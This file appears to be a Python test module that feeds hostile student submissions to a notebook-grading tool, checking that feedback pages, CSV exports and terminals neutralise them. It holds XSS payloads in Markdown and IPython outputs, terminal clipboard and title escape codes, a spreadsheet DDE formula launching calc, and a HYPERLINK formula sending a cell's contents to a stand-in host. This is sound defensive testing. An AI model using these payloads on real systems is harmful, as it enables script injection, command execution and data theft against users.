"""Attacks on whoever looks at the results: scripts in feedback, formulas in exports, escape codes in terminals."""

# ruff: noqa: E501 (the cells are written as a student would)

from __future__ import annotations

from attacks.case import FULL, HARMLESS, Case, Expected

ALERT = "<script>alert('attacked')</script>"
HOSTILE_HTML = (
    r"(?i)<script[^>]*>[^<]*attacked|onerror\s*=|onload\s*=|href=[\"']?\s*javascript:|<iframe|<object|<embed|<form"
)
"""What no page made of these submissions may hold."""


def _shows(name: str, row: str, tries: str, *cells: str, answers: dict[str, str] | None = None) -> Case:
    expected = Expected(("graded",), {} if answers else FULL, never="")
    return Case(id=f"markup-{name}", row=row, tries=tries, last=cells, answers=answers or {}, expected=expected)


def _bundle(kind: str, content: str) -> str:
    return f"from IPython.display import publish_display_data\npublish_display_data({{{kind!r}: {content!r}}})"


TEXT, OUTPUT, ELSEWHERE, CSV = "XSS markdown", "XSS output", "XSS elsewhere", "CSV/formula injection"

CASES = [
    _shows(
        "image", TEXT, "an image that fails and runs a script", "markdown:<img src=x onerror=\"alert('attacked')\">"
    ),
    _shows("link", TEXT, "a link that is a script", "markdown:[a](javascript:alert('attacked'))"),
    _shows(
        "link-encoded",
        TEXT,
        "the same with entities and line breaks in it",
        "markdown:<a href=\"java&#10;script&colon;alert('attacked')\">a</a>",
    ),
    _shows("script", TEXT, "a script in Markdown", f"markdown:{ALERT}"),
    _shows("svg", TEXT, "a script in an SVG in Markdown", f"markdown:<svg onload=\"alert('attacked')\">{ALERT}</svg>"),
    _shows(
        "frame",
        TEXT,
        "a frame, a form and a style that covers the page",
        'markdown:<iframe srcdoc="<script>alert(\'attacked\')</script>"></iframe><form action=//x><button style="position:fixed;inset:0">ok</button></form>',
    ),
    _shows("math", TEXT, "a script behind MathJax's `\\href`", "markdown:$\\href{javascript:alert('attacked')}{x}$"),
    _shows(
        "attachment",
        TEXT,
        "a reference that ends the attribute it stands in",
        "markdown:![x](attachment:a\"onerror=\"alert('attacked'))",
    ),
    _shows("html", OUTPUT, "`display(HTML(…))` with a script", f"from IPython.display import HTML\nHTML({ALERT!r})"),
    _shows(
        "javascript",
        OUTPUT,
        "`display(Javascript(…))`",
        "from IPython.display import Javascript\nJavascript(\"alert('attacked')\")",
    ),
    _shows(
        "svg-output",
        OUTPUT,
        "an SVG with a script",
        _bundle("image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"alert('attacked')\">{ALERT}</svg>"),
    ),
    _shows(
        "base64",
        OUTPUT,
        "a picture whose base64 ends the attribute",
        _bundle("image/png", "\"><script>alert('attacked')</script>"),
    ),
    _shows("latex", OUTPUT, "LaTeX output with markup in it", _bundle("text/latex", f"$x$ {ALERT}")),
    _shows(
        "markdown-output",
        OUTPUT,
        "Markdown output with a script",
        _bundle("text/markdown", f"[x](javascript:alert('attacked')) {ALERT}"),
    ),
    _shows("unknown-type", OUTPUT, "a type whose name is markup", _bundle(f"text/{ALERT}", "x")),
    _shows(
        "widget",
        OUTPUT,
        "a widget view with a state of its own",
        _bundle("application/vnd.jupyter.widget-view+json", f'{{"model_id": "{ALERT}"}}'),
    ),
    _shows("ansi", ELSEWHERE, "markup inside colour codes", f"print('\\x1b[31m' + {ALERT!r} + '\\x1b[0m')"),
    _shows(
        "terminal",
        ELSEWHERE,
        "codes that change a terminal's title and clipboard",
        "print('\\x1b]0;attacked\\x07\\x1b]52;c;YXR0YWNrZWQ=\\x07\\x1b[2J')",
    ),
    _shows(
        "error-name",
        ELSEWHERE,
        "an exception whose name and message are markup",
        f"raise type({ALERT!r}, (Exception,), {{}})({ALERT!r})",
    ),
    _shows(
        "answer-error",
        ELSEWHERE,
        "the same, raised by the graded function, so that it is in the tests' sentences",
        answers={
            "mean-answer": f"def mean(numbers):\n    raise ValueError({ALERT!r})",
            "double-answer": f"def double(number):\n    raise type({ALERT!r}, (Exception,), {{}})({ALERT!r})",
        },
    ),
    _shows(
        "answer-value",
        ELSEWHERE,
        "the same, returned, so that it is shown as what was found",
        answers={"mean-answer": f"def mean(numbers):\n    return {ALERT!r}"},
    ),
    _shows("source", ELSEWHERE, "code that ends the page's own script", f"'</script>{ALERT}'"),
    Case(
        id="markup-student",
        row=ELSEWHERE,
        tries="a student's name that is markup",
        student="<img src=x onerror=alert('attacked')>",
        expected=Expected(("graded", "invalid"), {}, never=""),
    ),
    Case(
        id="formula-student",
        row=CSV,
        tries="a student's name that is a spreadsheet's formula",
        student='=HYPERLINK("http:x?"&A1,"ok")',
        expected=HARMLESS,
    ),
    Case(
        id="formula-error",
        row=CSV,
        tries="an error message that is a spreadsheet's formula",
        answers={"mean-answer": "def mean(numbers):\n    raise ValueError('=1+cmd|\" /C calc\"!A0')"},
        expected=Expected(("graded",), {**FULL, "mean": 0}, never=""),
    ),
]
